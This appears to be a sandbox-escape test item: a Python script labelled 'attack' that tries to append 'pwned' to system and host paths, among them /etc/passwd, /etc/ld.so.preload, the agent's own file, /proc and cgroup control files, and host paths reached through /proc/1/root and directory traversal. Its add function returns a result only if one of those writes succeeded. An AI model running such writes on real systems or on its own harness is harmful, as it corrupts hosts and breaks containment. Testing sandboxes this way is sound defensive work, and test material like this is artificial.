# attack: write outside the work folder: /, /usr, /etc, the agent, /proc and /sys knobs, the host

CANARY = "@@HOST_CANARY@@"
targets = ["/evil", "/usr/evil", "/usr/lib/python3.11/os.py", "/etc/passwd", "/etc/ld.so.preload",
           "/opt/rlvr/agent.py", "/var/tmp/evil", "/root/evil", "/dev/evil", "/run/evil",
           "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/1/root/tmp/evil",
           "/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
           "/sys/kernel/uevent_helper", CANARY, "/proc/1/root" + CANARY, "/host" + CANARY,
           "../../../../../.." + CANARY]
wrote = []
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("pwned\n")
        wrote.append(path)
    except OSError:
        pass
BROKE = bool(wrote)


def add(a, b):
    return a + b if BROKE else None
